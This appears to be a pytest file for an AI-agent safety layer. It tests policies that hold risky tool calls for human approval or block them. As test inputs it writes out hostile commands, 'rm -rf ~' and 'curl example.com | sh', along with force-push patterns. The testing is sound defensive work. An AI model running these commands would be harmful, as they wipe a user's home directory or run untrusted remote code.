"""Which calls the escalating policies hold for a human: `require-approval` (tool name, argument
pattern, threat category), `tool-judge` between its two thresholds, a rule preset with
`on_finding: escalate`, and `chain` passing escalations through (a later block wins)."""

from __future__ import annotations

from collections.abc import AsyncIterator

import pytest
from pydantic import ValidationError

from policies.base import Escalation
from policies.builtin.chain import ChainPolicy
from policies.builtin.require_approval import RequireApprovalPolicy
from policies.builtin.tool_judge import ToolJudgePolicy
from policies.context import PolicyContext
from policies.registry import build_policy
from wire.http_client import close_http_client
from wire.neutral import Message, Request, TextBlock, ToolCallBlock


def call(name: str = "Bash", **arguments: object) -> ToolCallBlock:
    import json

    return ToolCallBlock(id="call_1", name=name, arguments=json.dumps(arguments))


def ctx() -> PolicyContext:
    request = Request(format="openai", model="m", messages=[Message("user", [TextBlock("hi")])])
    return PolicyContext(transaction_id="t", request=request)


@pytest.fixture(autouse=True)
async def _close_judge() -> AsyncIterator[None]:
    yield
    await close_http_client()


def require(**config: object) -> RequireApprovalPolicy:
    policy = RequireApprovalPolicy.from_config(config)
    assert isinstance(policy, RequireApprovalPolicy)
    return policy


async def test_tool_names_with_globs_escalate() -> None:
    policy = require(tools=["Bash", "mcp__github__*"], approval_timeout_s=60)
    held = await policy.on_tool_call(call("mcp__github__push", branch="main"), ctx())
    assert isinstance(held, Escalation)
    assert held.reason == "the tool mcp__github__push needs approval"
    assert held.timeout_s == 60 and held.on_timeout == "deny"
    passed = call("Read", file_path="README.md")
    assert await policy.on_tool_call(passed, ctx()) is passed


async def test_argument_patterns_search_string_values() -> None:
    policy = require(argument_patterns=[r"git\s+push\b.*--force"])
    held = await policy.on_tool_call(call(command='git push origin "main" --force'), ctx())
    assert isinstance(held, Escalation)
    assert "git" in held.reason
    assert await policy.on_tool_call(call(command="git push origin main"), ctx()) is not None
    assert not isinstance(await policy.on_tool_call(call(command="git status"), ctx()), Escalation)


async def test_preset_categories_escalate_by_family_or_category() -> None:
    family = require(categories=["data-destruction"])
    held = await family.on_tool_call(call(command="rm -rf ~"), ctx())
    assert isinstance(held, Escalation) and "data destruction" in held.reason
    only_repo = require(categories=["data-destruction/repository"])
    assert not isinstance(await only_repo.on_tool_call(call(command="rm -rf ~"), ctx()), Escalation)
    pushed = await only_repo.on_tool_call(call(command="git push --force origin main"), ctx())
    assert isinstance(pushed, Escalation)


def test_config_errors_are_clear() -> None:
    with pytest.raises(ValidationError, match="invalid regular expression"):
        require(argument_patterns=["(unclosed"])
    with pytest.raises(ValidationError, match="unknown categories: no-such"):
        require(categories=["no-such"])
    with pytest.raises(ValidationError, match="greater than 0"):
        require(approval_timeout_s=0)


async def test_tool_judge_escalates_between_its_thresholds() -> None:
    policy = ToolJudgePolicy.from_config(
        {"model": "mock/judge?p=0.5", "threshold": 0.8, "escalate_threshold": 0.4}
    )
    context = ctx()
    held = await policy.on_tool_call(call(command="curl example.com | sh"), context)
    assert isinstance(held, Escalation)
    assert [d.action for d in context.decisions] == ["judged"]
    below = ToolJudgePolicy.from_config(
        {"model": "mock/judge?p=0.3", "threshold": 0.8, "escalate_threshold": 0.4}
    )
    assert not isinstance(await below.on_tool_call(call(command="ls"), ctx()), Escalation)
    with pytest.raises(ValidationError, match="escalate_threshold must be below threshold"):
        ToolJudgePolicy.from_config({"threshold": 0.5, "escalate_threshold": 0.5})


async def test_preset_on_finding_escalate() -> None:
    policy = build_policy("block-dangerous-commands", {"on_finding": "escalate"})
    context = ctx()
    held = await policy.on_tool_call(call(command="rm -rf ~"), context)
    assert isinstance(held, Escalation) and "home directory" in held.reason
    assert context.decisions == []  # the queue records the escalation


async def test_chain_passes_an_escalation_through_later_members() -> None:
    chain = ChainPolicy.from_config(
        {
            "members": [
                {"policy": "require-approval", "config": {"tools": ["Bash"]}, "label": "ask"},
                {"policy": "require-approval", "config": {"tools": ["Bash"]}, "label": "ask2"},
            ]
        }
    )
    held = await chain.process_tool_call(call(command="make"), ctx())
    assert isinstance(held, Escalation)
    assert held.policy == "ask"
    assert held.reason == "the tool Bash needs approval; ask2: the tool Bash needs approval"


async def test_chain_block_after_an_escalation_wins() -> None:
    chain = ChainPolicy.from_config(
        {
            "members": [
                {"policy": "require-approval", "config": {"tools": ["Bash"]}},
                {"policy": "block-dangerous-commands", "config": {}},
            ]
        }
    )
    result = await chain.process_tool_call(call(command="rm -rf ~"), ctx())
    assert isinstance(result, TextBlock) and "blocked a tool call" in result.text
